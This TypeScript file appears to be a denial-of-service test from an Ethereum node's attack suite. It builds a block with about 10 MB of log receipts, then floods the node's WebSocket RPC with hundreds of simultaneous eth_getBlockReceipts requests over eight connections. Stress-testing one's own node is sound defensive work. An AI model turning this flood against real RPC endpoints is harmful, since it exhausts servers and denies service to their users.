/** Attack: clients that ask for very many long answers at once. */
import { setTimeout } from "node:timers/promises";
import { DEVELOPMENT_KEYS } from "../../../node/accounts/development-keys.ts";
import { fromHex, toHex } from "../../../node/bytes/hex.ts";
import { sign } from "../../../node/crypto/secp256k1.ts";
import { signTransaction } from "../../../node/model/transaction.ts";
import { ask, request } from "../../rpc/ask.ts";
import type { Attack } from "../attack.ts";
import { type AttackSocket, keepConnections, tallyFigures } from "../connections.ts";
import { textFrame, UPGRADE } from "../subscribing.ts";

const CONNECTIONS = 8;
/** As many as a connection may have under way. */
const CALLS = 256;
const REST_MS = 1_000;

/** Creates a contract whose code is `PUSH3 50,000; PUSH1 0; LOG0`: each call logs so many bytes. */
const LOGGER = fromHex("0x6007600c60003960076000f36200c3506000a0");
const LOGGED = 100;
const PRICE = 750_000_000_000n;
const LOOK_MS = 100;

interface Receipt {
  readonly blockNumber: string;
  readonly contractAddress: string | null;
}

/** Makes a block whose receipts are 10 MB of JSON, as any chain may have; its number. */
async function makeLoggedBlock(http: string): Promise<string> {
  const [key = new Uint8Array(32)] = DEVELOPMENT_KEYS;
  const chainId = BigInt(await ask<string>(http, "eth_chainId", []));
  const send = (nonce: number, to: Uint8Array | undefined, input: Uint8Array): Promise<string> => {
    const prices = { gasFeeCap: PRICE, gasTipCap: PRICE };
    const draft = { code: 0, nonce: BigInt(nonce), gas: 1_000_000n, ...prices, value: 0n, to, input };
    const { raw } = signTransaction(draft, chainId, (digest) => sign(digest, key));
    return ask<string>(http, "eth_sendRawTransaction", [toHex(raw)]);
  };
  const mined = async (hash: string): Promise<Receipt> => {
    for (;;) {
      const receipt = await ask<Receipt | null>(http, "eth_getTransactionReceipt", [hash]);
      if (receipt !== null) return receipt;
      await setTimeout(LOOK_MS);
    }
  };
  const { contractAddress } = await mined(await send(0, undefined, LOGGER));
  const contract = fromHex(contractAddress ?? "0x");
  let last = "";
  for (let nonce = 1; nonce <= LOGGED; nonce++) last = await send(nonce, contract, new Uint8Array(0));
  return (await mined(last)).blockNumber;
}

/** Receipts, which are written in slices while all answers are held. */
export const attack: Attack = {
  summary: `${CONNECTIONS} clients of WebSocket that ask for the receipts of a large block ${CALLS} times at once`,
  run: async ({ http, wsPort: port }, signal) => {
    const call = textFrame(request("eth_getBlockReceipts", [await makeLoggedBlock(http)]));
    const calls = Buffer.alloc(call.length * CALLS, call);
    const use = async ({ socket, write, answer }: AttackSocket): Promise<void> => {
      await write(UPGRADE);
      await answer();
      socket.resume();
      while (!signal.aborted) {
        await write(calls);
        await setTimeout(REST_MS, undefined, { signal });
      }
    };
    return tallyFigures(await keepConnections({ port, count: CONNECTIONS, signal, use }));
  },
};
